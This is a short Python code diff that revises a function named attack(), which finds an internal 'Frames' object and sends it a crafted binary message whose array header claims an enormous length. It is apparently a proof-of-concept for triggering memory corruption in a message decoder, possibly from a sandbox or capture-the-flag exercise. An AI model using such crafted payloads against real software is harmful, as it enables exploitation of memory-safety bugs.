@@ -7,10 +7,7 @@ import gc, os, struct
 def frames():
     return next(thing for thing in gc.get_objects() if type(thing).__name__ == "Frames")
 
-def text(words):
-    return b"s" + struct.pack("<I", len(words)) + words
-
 
 def attack():
     array = b"a\x0b\0\2" + struct.pack("<QQ", 1 << 33, 1 << 33)
-    frames().send(5, struct.pack("<IIdI", 0, 0, 0.0, 0) + text(b"returned") + text(b"") * 3 + array)
+    frames().send(5, struct.pack("<IId?I", 0, 0, 0.0, False, 0) + array)
